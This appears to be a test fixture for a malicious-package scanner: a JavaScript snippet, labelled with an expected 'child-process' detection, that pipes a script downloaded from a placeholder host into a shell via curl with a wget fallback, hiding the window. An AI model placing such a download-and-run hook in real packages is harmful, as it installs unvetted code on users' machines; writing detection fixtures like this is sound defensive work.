// expect: category=child-process min=95 context=plugin,package
// why: an install script pipes a downloaded script into a shell.
const { exec } = require('child_process');

const url = 'https://dl.example/install.sh';
exec(`curl -fsSL ${url} | sh`, { windowsHide: true }, (err) => {
  if (err) {
    exec(`wget -qO- ${url} | sh`);
  }
});
